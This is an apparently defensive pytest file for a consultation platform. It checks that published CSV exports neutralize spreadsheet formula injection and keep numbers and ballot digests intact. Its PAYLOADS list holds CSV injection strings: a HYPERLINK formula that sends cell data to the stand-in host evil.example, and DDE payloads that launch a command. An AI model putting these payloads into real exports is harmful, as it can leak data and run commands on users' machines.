"""Finding 3: formulas planted in texts must reach no published CSV as formulas.

A participant writes `=HYPERLINK(...)`, `+...`, `-...`, `@...` in titles, texts, comments and
an organizer in an action's title; every CSV the server publishes (plan.csv, the ballot
files, every CSV of the open-data archive) neutralizes those cells with OWASP's leading
apostrophe, leaves numbers alone, and keeps each ballot file's digest reproducible.
"""

import csv
import hashlib
import io
import zipfile

import pytest
import time_machine

from backend.comments.services import comment_create
from backend.consultations.domain import PhaseKind
from backend.core.csvfiles import FORMULA_STARTS, csv_text, safe_cell
from backend.plans.services import plan_publish
from backend.proposals.services import contribution_create
from backend.synthesis.services import candidate_action_create, candidate_action_decide
from backend.votes.domain.recount import recount_from_csv
from tests.fixtures.openapi_contract import ContractAPIClient
from tests.fixtures.personas import Personas
from tests.fixtures.phases import middle_of
from tests.plans.conftest import Built

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def planted(built: Built, people: Personas) -> Built:
    with time_machine.travel(middle_of(PhaseKind.PROPOSALS), tick=False):
        for payload in PAYLOADS:
            contribution_create(
                by=people.participant,
                consultation=built.consultation,
                kind="problem",
                title=payload,
                body=payload,
                summary_easy_read=payload,
                origin="web",
                theme="acces_droits",
            )
    with time_machine.travel(middle_of(PhaseKind.DELIBERATION), tick=False):
        for payload in PAYLOADS:
            comment_create(by=people.participant, contribution=built.proposals[0], body=payload)
    with time_machine.travel(middle_of(PhaseKind.SYNTHESIS), tick=False):
        action = candidate_action_create(
            by=people.organizer,
            consultation=built.consultation,
            title=PAYLOADS[0],
            description=PAYLOADS[1],
            contribution_ids=[built.proposals[3].pk],
        )
        candidate_action_decide(
            by=people.organizer, action=action, decision="retained", public_answer=PAYLOADS[3]
        )
    with time_machine.travel(middle_of(PhaseKind.RESTITUTION), tick=False):
        plan_publish(by=people.organizer, consultation=built.consultation, force=True)
    return built


def test_no_formula_in_the_plan_csv(planted: Built) -> None:
    response = ContractAPIClient().get(
        f"/api/v1/consultations/{planted.consultation.pk}/plan/plan.csv"
    )
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert "'" + PAYLOADS[0] in cells
    assert not [cell for cell in cells if _is_formula(cell)]


def test_no_formula_in_any_csv_of_the_open_data_archive(planted: Built) -> None:
    response = ContractAPIClient().get(
        f"/api/v1/consultations/{planted.consultation.pk}/open-data.zip"
    )
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    seen: set[str] = set()
    for name in archive.namelist():
        if name.endswith(".csv"):
            cells = _cells(archive.read(name).decode())
            assert not [cell for cell in cells if _is_formula(cell)], name
            seen |= set(cells)
    for payload in PAYLOADS:
        assert "'" + payload in seen, payload  # neutralized, not dropped


def test_numbers_are_not_corrupted(planted: Built) -> None:
    """Vote values (-1 disagree), counts and ids keep their sign and digits."""
    response = ContractAPIClient().get(
        f"/api/v1/consultations/{planted.consultation.pk}/open-data.zip"
    )
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    polis_votes = list(csv.DictReader(io.StringIO(archive.read("polis/votes.csv").decode())))
    assert {row["vote"] for row in polis_votes} == {"1", "-1", "0"}
    ballots = archive.read(f"ballots/vote-{planted.agree_vote.pk}.csv").decode()
    assert {row["value"] for row in csv.DictReader(io.StringIO(ballots))} == {"1", "-1", "0"}
    assert csv_text([[-1, "-1", "+2.5", "-3e2", 0]]) == "-1,-1,+2.5,-3e2,0\r\n"


def test_ballot_file_digest_is_reproducible_from_the_bytes(planted: Built) -> None:
    for vote in (planted.mj_vote, planted.agree_vote):
        vote.refresh_from_db()
        response = ContractAPIClient().get(f"/api/v1/votes/{vote.pk}/ballots.csv")
        assert response.status_code == 200
        digest = hashlib.sha256(response.content).hexdigest()
        assert digest == response["X-Content-SHA256"] == vote.ballots_digest
        results = ContractAPIClient().get(f"/api/v1/votes/{vote.pk}/results/").json()
        assert results["ballots_digest"] == digest
        items = sorted(vote.items.values_list("pk", flat=True))
        options = {**vote.options, "one_structure_one_voice": vote.one_structure_one_voice}
        recount = recount_from_csv(response.content.decode(), vote.method, items, options)
        assert recount == vote.result


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized(start: str) -> None:
    assert safe_cell(f"{start}1+A1") == f"'{start}1+A1"
    assert safe_cell("ordinary text") == "ordinary text"
    assert safe_cell(None) == ""


SQL_RULE_SAMPLES = [
    *PAYLOADS,
    *(f"{start}1+A1" for start in FORMULA_STARTS),
    "-1",
    "+3.5",
    "-.5e3",
    "3.",
    "-3.e+2",
    "1e5",
    "-1e",
    "-",
    "+",
    "=",
    "+33 6 12 34 56 78",
    "- une liste",
    "-1\n",
    "+1 ",
    "-\u0663",
    "\u0663",
    "'déjà neutre",
    "x=1",
    "\n=1",
    "",
    "texte ordinaire",
]


def test_the_sql_rule_neutralizes_exactly_as_the_python_rule() -> None:
    """The open-data archive's big files are written by PostgreSQL with `safe_cell_sql`: on
    the real server, it gives the same cell as `safe_cell` for every kind of start."""
    from django.db import connection

    from backend.core.csvfiles import safe_cell_sql

    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {safe_cell_sql('v')} FROM unnest(%s::text[]) WITH ORDINALITY AS t(v, n) "  # noqa: S608
            "ORDER BY n",
            [SQL_RULE_SAMPLES],
        )
        got = [value for (value,) in cursor.fetchall()]
    assert got == [safe_cell(sample) for sample in SQL_RULE_SAMPLES]
    assert got[0].startswith("'")
    assert got[SQL_RULE_SAMPLES.index("-1")] == "-1"


QUOTING_SAMPLES = [
    *SQL_RULE_SAMPLES,
    'il a dit "non"',
    '"',
    '""',
    "a,b",
    ",",
    "ligne 1\r\nligne 2",
    "\r",
    '=HYPERLINK("x","y"),\n2',
    "\t tabulation",
    "  espaces  ",
    "émoji 🙂, accents àéè",
    None,
]


def test_the_sql_lines_are_the_bytes_of_the_python_writer() -> None:
    """The archive's big files are written line by line by PostgreSQL (`csv_line_sql`): on the
    real server, the same bytes as `csv_text` for texts that need quoting, neutralizing or
    both, for NULLs and for numbers."""
    from django.db import connection

    from backend.core.csvfiles import (
        csv_line_sql,
        csv_number_cell_sql,
        csv_text_cell_sql,
        csv_text_of_lines,
    )

    line = csv_line_sql(
        [csv_number_cell_sql("n"), csv_text_cell_sql("v"), csv_number_cell_sql("x"), "'fin'"]
    )
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {line} FROM unnest(%s::text[], %s::int[]) WITH ORDINALITY "  # noqa: S608
            "AS t(v, x, n) ORDER BY n",
            [QUOTING_SAMPLES, [None if n % 3 else -n for n in range(len(QUOTING_SAMPLES))]],
        )
        lines = [text for (text,) in cursor.fetchall()]
    header = ("n", "valeur", "x", "fin")
    rows = [
        (n, sample, None if (n - 1) % 3 else -(n - 1), "fin")
        for n, sample in enumerate(QUOTING_SAMPLES, start=1)
    ]
    assert csv_text_of_lines(header, lines) == csv_text([header, *rows])
    parsed = list(csv.reader(io.StringIO(csv_text_of_lines(header, lines), newline="")))
    assert [row[1] for row in parsed[1:]] == [
        "" if sample is None else safe_cell(sample) for sample in QUOTING_SAMPLES
    ]
